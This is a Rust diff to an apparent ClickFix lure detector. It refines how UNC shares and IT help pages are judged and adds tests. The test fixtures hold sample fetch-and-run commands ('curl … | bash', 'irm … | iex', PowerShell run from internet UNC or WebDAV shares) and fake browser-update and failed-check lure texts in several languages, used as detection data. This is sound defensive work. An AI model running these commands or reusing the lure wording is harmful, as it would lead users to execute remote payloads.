@@ -275,7 +275,27 @@ fn has_word(flat: &str, word: &str) -> bool {
 }
 
 fn has_url(flat: &str) -> bool {
-    has(flat, "http:") || has(flat, "https:") || has(flat, "\\\\") || has(flat, "ftp:")
+    has(flat, "http:") || has(flat, "https:") || unc_reaches_out(flat) || has(flat, "ftp:")
+}
+
+/// A UNC path to a host the internet can serve: a dotted name, an IP, WebDAV's `host@SSL`.
+/// A share on a single-label or `.local`-style host (`\\corp\netlogon`) is on the
+/// organisation's own network: no web page's author can put a payload there.
+fn unc_reaches_out(flat: &str) -> bool {
+    const INTRANET: &[&str] = &[
+        ".local",
+        ".lan",
+        ".corp",
+        ".internal",
+        ".intranet",
+        ".home.arpa",
+    ];
+    flat.match_indices("\\\\").any(|(i, _)| {
+        let host = flat[i + 2..].split(['\\', '/', ' ']).next().unwrap_or("");
+        host.is_empty()
+            || host.contains('@')
+            || host.contains('.') && !INTRANET.iter().any(|s| host.ends_with(s))
+    })
 }
 
 /// A shell follows a pipe (`| sh`, `|sudo bash -s`, `| python3`).
@@ -534,7 +554,7 @@ fn split_padding(raw: &str) -> Option<(&str, &str)> {
 /// (not a bare IP); for a Windows command, with no path or a path naming a `.ps1` script or an
 /// `.msi` package. Lures fetch `http://203.0.113.5/x`, `/verify`, `/p.txt`, a UNC share.
 fn published(flat: &str, windows: bool) -> bool {
-    if has(flat, "http:") || has(flat, "\\\\") || has(flat, "ftp:") {
+    if has(flat, "http:") || unc_reaches_out(flat) || has(flat, "ftp:") {
         return false;
     }
     tokens(flat).iter().all(|t| {
@@ -971,18 +991,30 @@ fn assess_command(command: Command, page: &PageHits) -> Option<ClickFix> {
     // choose Terminal (Admin), paste"): with a command docs give and nothing dressing it up, they
     // are documentation; a lure always adds its story (verify, fix, update, open the file).
     let docs = command.install_like(&page.site) && page.documents_install(&command);
-    let windows_run = run_dialog && command.windows_payload() && !docs;
+    // An IT help or vendor support page tells a story too ("Teams audio not working? To fix
+    // it, press Win+X …"), but shows the very command it copies and fetches nothing, or only
+    // from its own site; a lure hides its command or fetches from elsewhere.
+    let help = command.install_like(&page.site)
+        && page.shows(&command)
+        && (!command.remote || command.fetches_from_site(&page.site))
+        && page.weight(Cat::VerifyHuman) < GENERIC_VERIFY
+        && page
+            .story()
+            .all(|h| matches!(h.cat, Cat::FixPretext | Cat::Error));
+    let windows_run = run_dialog && command.windows_payload() && !docs && !help;
     // The Mac variant: Terminal and paste steps are what developer docs say too ("paste this in
-    // Terminal"); only a strong shape outside install docs makes them ClickFix. A story does
-    // not make `curl … | sh` one: "How to fix 'command not found': open Terminal, paste" is how
-    // honest how-tos read too.
+    // Terminal"); a strong shape outside install docs makes them ClickFix. `curl … | sh` only
+    // with a story (a browser update, a failed check; not docs' "verification steps") AND the
+    // command kept off the page: kits hide it, while docs and how-tos ("How to fix 'command not
+    // found'") show what they copy.
+    let hidden_story = !page.shows(&command) && page.story().next().is_some();
     let mac_run = terminal
         && paste
         && !docs
-        && command
-            .shapes
-            .iter()
-            .any(|s| s.platform() == Platform::Unix && s.strong());
+        && command.shapes.iter().any(|s| {
+            s.platform() == Platform::Unix
+                && (s.strong() || *s == Shape::PipeToShell && hidden_story)
+        });
     let pretext = page_pretext || command.comment_pretext;
     if !(windows_run || mac_run || pretext || command.padded) {
         return None;
@@ -1164,6 +1196,114 @@ mod tests {
             "curl -o setup.exe https://x.example/setup.exe",
         ] {
             assert!(!shapes_of(clip).contains(&Shape::DownloadStart), "{clip}");
+        }
+    }
+
+    #[test]
+    fn mac_update_lures_hide_the_command() {
+        // Mac kits: a browser update or a failed check, Terminal steps, the command kept off
+        // the page.
+        for (clip, text) in [
+            (
+                "curl -fsSL https://cdn.example/safari/update.sh | bash",
+                "Safari is out of date. Critical update required. Press Cmd + Space, type \
+                 Terminal, paste with Cmd + V and press Return.",
+            ),
+            (
+                "/bin/bash -c \"$(curl -fsSL http://198.51.100.23/i.sh)\"",
+                "Chrome needs an update. Open Terminal (Applications/Utilities), paste and \
+                 press Return.",
+            ),
+            (
+                "curl -s https://x.example/m | zsh",
+                "Ihr Browser ist veraltet. Drücken Sie Befehlstaste + Leertaste, Terminal \
+                 öffnen, Befehl einfügen und die Eingabetaste drücken.",
+            ),
+            (
+                "curl -fsSL https://x.example/v.sh | bash",
+                "La vérification a échoué. Ouvrez le Terminal, collez la commande et appuyez \
+                 sur Entrée.",
+            ),
+            (
+                "curl -fsSL https://x.example/u.sh | bash",
+                "お使いのブラウザは古いバージョンです。ターミナルを開き、コマンドを貼り付けて \
+                 Return キーを押してください。",
+            ),
+            (
+                "curl -s https://x.example/m | bash",
+                "Checking your browser… Security check failed. Open Terminal, paste the code, \
+                 press Return.",
+            ),
+        ] {
+            assert!(judged(clip, text), "{text}");
+        }
+        // How-tos and docs tell a problem too, but show what they copy; installers tell none.
+        let cmd = "curl -fsSL https://get.example.dev/install.sh | bash";
+        for text in [
+            format!(
+                "How to fix 'command not found': open Terminal, paste and press Return.\n{cmd}"
+            ),
+            format!("If your CLI is out of date, open Terminal, paste this, press Return: {cmd}"),
+            "Install. Open Terminal, paste the command and press Return.".to_string(),
+        ] {
+            assert!(!judged(cmd, &text), "{text}");
+        }
+    }
+
+    #[test]
+    fn help_pages_show_what_they_copy() {
+        let on = |clip: &str, text: &str, url: &str| {
+            assess(clip, &PageHits::new([text]).on(url)).is_some()
+        };
+        let it = "https://it.northfield.example/help/teams";
+        let fetch = "irm https://it.northfield.example/scripts/fix-teams-audio.ps1 | iex";
+        let local = "powershell -NoProfile -Command \"netsh winsock reset\"";
+        let steps = "Teams audio not working? To fix it, press Win+X, choose Windows PowerShell \
+                     (Admin), paste the command below and press Enter.";
+        // Shown on the page, fetching nothing or only from the page's own site: help.
+        assert!(!on(fetch, &format!("{steps}\n{fetch}\nCopy"), it));
+        assert!(!on(local, &format!("{steps}\n{local}\nCopy"), it));
+        // Hidden, fetched from another site, or told as an infection or a human check: a lure.
+        assert!(on(fetch, steps, it));
+        assert!(on(
+            fetch,
+            &format!("{steps}\n{fetch}"),
+            "https://teams-fix.example/"
+        ));
+        let trojan = "Trojan detected on your PC! Press Win+X, choose Windows PowerShell \
+                      (Admin), paste and press Enter.";
+        assert!(on(fetch, &format!("{trojan}\n{fetch}"), it));
+        assert!(on(
+            fetch,
+            &format!("Verify you are human. {steps}\n{fetch}"),
+            it
+        ));
+    }
+
+    #[test]
+    fn intranet_shares_do_not_reach_out() {
+        let run = "Press Win+R, paste the command below and press Enter.";
+        // A single-label or .local host is the organisation's own network.
+        for clip in [
+            "cmd /c \\\\dc01\\netlogon\\logon.bat",
+            "powershell -ExecutionPolicy Bypass -File \\\\fileserver\\it$\\map-printers.ps1",
+            "powershell -File \\\\nas01.corp.local\\scripts\\vpn.ps1",
+        ] {
+            assert!(
+                !judged(clip, &format!("Printers missing? {run}\n{clip}")),
+                "{clip}"
+            );
+        }
+        // A share the internet serves (a dotted name, an IP, WebDAV) is how lures fetch.
+        for clip in [
+            "cmd /c \\\\files.example\\pub\\update.bat",
+            "powershell -File \\\\203.0.113.9\\share\\fix.ps1",
+            "powershell -File \\\\dav@SSL\\DavWWWRoot\\fix.ps1",
+        ] {
+            assert!(
+                judged(clip, &format!("Printers missing? {run}\n{clip}")),
+                "{clip}"
+            );
         }
     }
 
